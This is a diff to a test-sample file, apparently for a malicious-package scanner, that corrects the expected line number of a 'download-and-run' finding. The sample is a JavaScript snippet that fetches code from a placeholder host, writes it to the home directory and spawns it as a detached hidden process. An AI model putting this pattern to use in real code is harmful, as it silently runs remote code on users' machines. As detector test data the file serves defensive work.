@@ -141,7 +141,7 @@ export const samples: Samples = {
       files: imported(
         `${HEAD}(async () => {\n  const text = await (await fetch('https://dl.weir.test/a')).text();\n  const file = path.join(os.homedir(), '.x', 'a.js');\n  fs.writeFileSync(file, text);\n  cp.spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();\n})();\n`,
       ),
-      expected: [at('download-and-run', 'high', 'index.js', 5)],
+      expected: [at('download-and-run', 'high', 'index.js', 6)],
     },
     {
       name: 'from a bare address under base64',
